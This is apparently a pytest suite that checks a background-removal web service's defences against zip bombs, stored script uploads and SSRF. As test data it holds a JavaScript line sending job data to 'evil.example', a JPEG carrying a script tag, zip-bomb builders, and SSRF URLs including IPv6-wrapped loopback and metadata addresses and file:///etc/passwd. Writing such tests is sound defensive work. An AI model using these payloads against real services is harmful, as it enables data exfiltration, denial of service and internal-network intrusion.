"""Issue 12, items 4, 5 and 8: replayed over HTTP against a real `cutout serve`.

4. A 2 MB zip of 85 members of 24 MB of zeros (2 GB inflated), and several archives in one
   request, are refused: the storage directory does not grow and the web processes' temporary
   files (watched through /proc/<pid>/fd, where unlinked spool files still show their size)
   never hold more than the request total plus the raw upload. The per-user quota answers
   413 with the numbers, and a deleted job's bytes stop counting.
5. holiday.html (a JPEG with a <script> comment) and notes.js come back as attachments of an
   image type or octet-stream, with nosniff and a sandboxing CSP; never as HTML or JavaScript.
8. Every IPv4-in-IPv6 form of an internal address and every malformed image_url is a 400.
"""

import http.client
import io
import json
import os
import threading
import time
import uuid
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from bench.served import Served, descendants, multipart
from tasks.local_cluster import wait_until
from tests.conftest import DATA, starts_servers
from tests.web.loopback import LoopbackServer, body
from web.users import UserStore

pytestmark = pytest.mark.slow
MB = 1024 * 1024
TOTAL_MB, QUOTA_MB = 48, 64  # small limits, so that the replays stay quick
SCRIPT = b'<script src="1?variant=input"></script>'
NOTES_JS = b"fetch('/api/v1/jobs').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"


@pytest.fixture(scope="module")
@starts_servers
def served(tmp_path_factory):
    home = tmp_path_factory.mktemp("serve-storage")
    (home / "tmp").mkdir()
    served = Served(home, env={"CUTOUT_DEFAULT_MODEL": "u2netp", "TMPDIR": str(home / "tmp"),
                               "CUTOUT_MAX_INFLATED_MB": str(TOTAL_MB), "CUTOUT_USER_QUOTA_MB": str(QUOTA_MB)})
    try:
        yield served.wait_ready()
    finally:
        served.stop()


@pytest.fixture
def user(served, request) -> dict:
    """A user of its own per test: quotas and job lists do not mix between tests."""
    name = "".join(ch for ch in request.node.originalname.lower() if ch.isalnum())[:40] + uuid.uuid4().hex[:8]
    _, key = UserStore.from_url(f"redis://127.0.0.1:{served.ports['REDIS_PORT']}/0").add(name)
    return {"X-Api-Key": key}


def call(served: Served, method: str, path: str, headers: dict, data: bytes | None = None):
    """(status, headers, body) over a plain socket connection."""
    connection = http.client.HTTPConnection("127.0.0.1", served.ports["PORT"], timeout=300)
    try:
        connection.request(method, path, data, headers)
        response = connection.getresponse()
        return response.status, response.headers, response.read()
    finally:
        connection.close()


def post(served: Served, headers: dict, files: list[tuple[str, bytes]], field: str = "images"):
    data, content_type = multipart(files, field)
    return call(served, "POST", "/api/v1/jobs", headers | {"Content-Type": content_type}, data)


def error(reply: bytes) -> dict:
    return json.loads(reply)["error"]


def stored_bytes(served: Served) -> int:
    return sum(p.stat().st_size for p in (served.home / "storage").rglob("*") if p.is_file())


class TempWatch:
    """The most bytes the web processes held at once in files under their TMPDIR, sampled every few ms.

    Spool files are unlinked at once (TemporaryFile), so no directory listing shows them; their
    open descriptors in /proc/<pid>/fd still do, with their size."""

    def __init__(self, served: Served):
        web = served.pid_of("web")
        self.pids, self.tmp = descendants(web) | {web}, str(served.home / "tmp")
        self.peak, self._stop = 0, threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _held(self) -> int:
        held = 0
        for pid in self.pids:
            for fd in Path(f"/proc/{pid}/fd").glob("*"):
                try:
                    if os.readlink(fd).startswith(self.tmp):
                        held += os.stat(fd).st_size
                except OSError:  # closed meanwhile
                    continue
        return held

    def _run(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, self._held())
            time.sleep(0.003)

    def __enter__(self) -> "TempWatch":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()


def zip_of(entries, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """The issue's zip: 85 members of 24 MB of zeros, 2,040 MB inflated, under the 2,048 MB claim cap."""
    zeros = bytes(24 * MB)
    data = zip_of((f"zeros-{n:02d}.png", zeros) for n in range(85))
    assert len(data) < 2.5 * MB
    return data


# --- 4: nothing over the caps is written ---------------------------------------------------------------


def test_the_85_member_zeros_zip_twice_in_one_request_is_refused_writing_nothing(served, user, bomb):
    before = stored_bytes(served)
    with TempWatch(served) as watch:
        status, _, reply = post(served, user, [("bomb.zip", bomb), ("bomb2.zip", bomb)], field="archive")
    assert status == 413 and error(reply)["code"] == "zip_bomb", reply
    assert "bomb.zip!zeros-00.png" in error(reply)["message"] and "100:1" in error(reply)["message"]
    assert stored_bytes(served) == before
    assert watch.peak <= 2 * len(bomb) + MB, watch.peak  # the raw upload only: no member was inflated
    assert json.loads(call(served, "GET", "/api/v1/jobs", user)[2])["jobs"] == []


def test_a_bomb_whose_headers_claim_a_tame_ratio_is_stopped_while_inflating(served, user):
    # The member's central directory entry claims 1 MB compressed (24:1); zipfile then reads on
    # into the next member's bytes: only the compressed bytes really read tell the ratio.
    honest = zip_of([("zeros.png", bytes(24 * MB)), ("pad.jpg", os.urandom(4 * MB))])
    data = bytearray(honest)
    entry = data.find(b"PK\x01\x02")
    while entry != -1:
        if data[entry + 46:entry + 51] == b"zeros":
            data[entry + 20:entry + 24] = MB.to_bytes(4, "little")
        entry = data.find(b"PK\x01\x02", entry + 46)
    before = stored_bytes(served)
    with TempWatch(served) as watch:
        status, _, reply = post(served, user, [("sly.zip", bytes(data))], field="archive")
    assert status == 413 and error(reply)["code"] == "zip_bomb" and "so far" in error(reply)["message"], reply
    assert stored_bytes(served) == before
    assert watch.peak <= len(data) + 10 * MB, watch.peak  # ~7 MB inflated before it was stopped


def compressible(n: int) -> bytes:
    """`n` bytes that deflate about 10:1: no bomb, just not random."""
    block = os.urandom(6 * 1024) + bytes(58 * 1024)
    return (block * (n // len(block) + 1))[:n]


def test_several_archives_past_the_request_total_are_refused_holding_no_more_than_the_total(served, user):
    archives = [(f"part{k}.zip", zip_of((f"{k}-{m}.jpg", compressible(4 * MB)) for m in range(4))) for k in range(5)]
    upload = sum(len(a) for _, a in archives)
    before = stored_bytes(served)
    with TempWatch(served) as watch:
        status, _, reply = post(served, user, archives, field="archive")
    assert status == 413 and error(reply)["code"] == "request_too_large", reply
    assert f"{TOTAL_MB} MB limit per request" in error(reply)["message"]
    assert stored_bytes(served) == before
    # The first archives were unpacked to spool files (the watch sees them), never past the total.
    assert 16 * MB < watch.peak <= TOTAL_MB * MB + upload + MB, watch.peak


def test_the_quota_answers_413_with_the_numbers_and_deleting_a_job_frees_it(served, user):
    jobs = []
    for n in range(2):
        status, _, reply = post(served, user, [(f"a{n}-{k}.jpg", os.urandom(8 * MB)) for k in range(3)])
        assert status == 202, reply
        jobs.append(json.loads(reply)["job_id"])
    before = stored_bytes(served)
    status, _, reply = post(served, user, [("b.jpg", os.urandom(16 * MB + 1))])
    assert status == 413 and error(reply)["code"] == "quota_exceeded", reply
    message = error(reply)["message"]
    assert "needs 16 MB" in message and "hold 48 MB" in message and f"{QUOTA_MB} MB storage quota" in message
    assert "delete finished jobs" in message
    assert stored_bytes(served) <= before  # refused before storing (the workers may delete failed inputs)
    assert call(served, "DELETE", f"/api/v1/jobs/{jobs[0]}", user)[0] == 204
    assert post(served, user, [("b.jpg", os.urandom(16 * MB + 1))])[0] == 202


# --- 5: stored uploads are data, never pages ---------------------------------------------------------


def assert_data(headers, content_types: tuple[str, ...]) -> None:
    kind = headers["Content-Type"].split(";")[0]
    assert kind in content_types and not kind.startswith(("text/", "image/svg")) and "javascript" not in kind
    assert headers["Content-Disposition"].startswith("attachment; filename=")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"].split(";")[0]


def holiday_html() -> bytes:
    out = io.BytesIO()
    Image.open(DATA / "coffee.jpg").convert("RGB").resize((320, 240)).save(out, "JPEG", comment=SCRIPT)
    return out.getvalue()


def test_holiday_html_and_notes_js_come_back_as_data_never_as_pages(served, user):
    photo = holiday_html()
    status, _, reply = post(served, user, [("holiday.html", photo), ("notes.js", NOTES_JS)])
    assert status == 202, reply
    job = json.loads(reply)["job_id"]
    base = f"/api/v1/jobs/{job}/items"
    status, headers, data = call(served, "GET", f"{base}/0?variant=input", user)
    assert status == 200 and data == photo and SCRIPT in data
    assert_data(headers, ("image/jpeg",))
    assert headers["Content-Disposition"] == "attachment; filename=holiday.jpg"
    status, headers, _ = call(served, "GET", f"{base}/1?variant=input", user)
    if status == 200:  # still queued: plain bytes
        assert_data(headers, ("application/octet-stream",))
    else:  # failed as not an image: not served at all
        assert status == 404 and headers["Content-Type"] == "application/json"

    def finished():
        view = json.loads(call(served, "GET", f"/api/v1/jobs/{job}", user)[2])
        return view if view["status"] in ("done", "failed") else None

    view = wait_until(finished, 120, "the job did not finish")
    assert [it["state"] for it in view["items"]] == ["done", "failed"]
    status, headers, _ = call(served, "GET", f"{base}/1?variant=input", user)
    assert status == 404 and headers["Content-Type"] == "application/json"
    done = view["items"][0]
    for url, kinds in ((done["output_url"], ("image/png",)), (done["alpha_url"], ("image/png",)),
                       (view["download_url"], ("application/zip",))):
        status, headers, _ = call(served, "GET", url, user)
        assert status == 200
        assert_data(headers, kinds)


# --- 8: SSRF through IPv4 inside IPv6, and malformed URLs ---------------------------------------------

WRAPPED = ["[64:ff9b::a9fe:a9fe]", "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[::7f00:1]",
           "[::ffff:0:7f00:1]", "[::ffff:7f00:1]", "[2001:0:4136:e378:8000:63bf:80ff:fffe]"]
MALFORMED = ["http://127.0.0.1:99999/x.jpg", "http://127.0.0.1:abc/x.jpg", "http://[::1", "http://[::1/x.jpg",
             "http://exa\r\nmple.com/x.jpg", "http://" + "a" * 300 + ".example.com/x.jpg", "http:///x.jpg",
             "http://:80/x.jpg", "file:///etc/passwd", "gopher://127.0.0.1:70/_x"]


@pytest.fixture
def internal():
    """An internal image server on loopback: no refused URL may reach it."""
    server = LoopbackServer({"/x.jpg": body(b"\xff\xd8\xff internal")})
    yield server
    server.close()


def removebg(served: Served, headers: dict, url: str):
    boundary = "storage-abuse-boundary"
    data = (f'--{boundary}\r\nContent-Disposition: form-data; name="image_url"\r\n\r\n{url}\r\n'
            f"--{boundary}--\r\n").encode()
    content_type = f"multipart/form-data; boundary={boundary}"
    return call(served, "POST", "/v1.0/removebg", headers | {"Content-Type": content_type}, data)


@pytest.mark.parametrize("host", WRAPPED)
def test_each_ipv4_in_ipv6_form_is_400_and_reaches_nothing(served, user, internal, host):
    status, headers, reply = removebg(served, user, f"http://{host}:{internal.port}/x.jpg")
    assert status == 400 and headers["Content-Type"] == "application/json", reply
    [err] = json.loads(reply)["errors"]
    assert err["code"] == "image_url_refused" and "private or reserved" in err["detail"]
    assert internal.requests == []


@pytest.mark.parametrize("url", MALFORMED)
def test_each_malformed_image_url_is_400_naming_the_problem_not_a_500(served, user, url):
    status, headers, reply = removebg(served, user, url)
    assert status == 400 and headers["Content-Type"] == "application/json", reply
    [err] = json.loads(reply)["errors"]
    assert err["code"] == "invalid_image_url" and "image_url" in err["detail"]
